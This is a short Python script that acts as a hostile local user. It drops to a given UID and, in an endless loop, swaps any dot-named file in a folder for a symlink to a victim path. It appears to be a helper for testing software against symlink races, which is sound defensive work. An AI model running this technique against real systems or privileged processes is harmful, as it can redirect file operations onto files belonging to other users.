"""What a hostile user does to a folder of its own: whatever comes there with a dot is moved away, and a link to the
victim put in its place. `exchanging.py FOLDER VICTIM UID`; says so when it has begun, and goes on until it is ended."""

import os
import sys

folder, victim, user = sys.argv[1:]
os.setgroups([])
os.setgid(int(user))
os.setuid(int(user))
os.chdir(folder)
print("begun", flush=True)
count = 0
while True:
    for name in os.listdir("."):
        if name.startswith("."):
            count += 1
            try:
                os.rename(name, f"taken{count}")
                os.symlink(victim, name)
            except OSError:
                pass
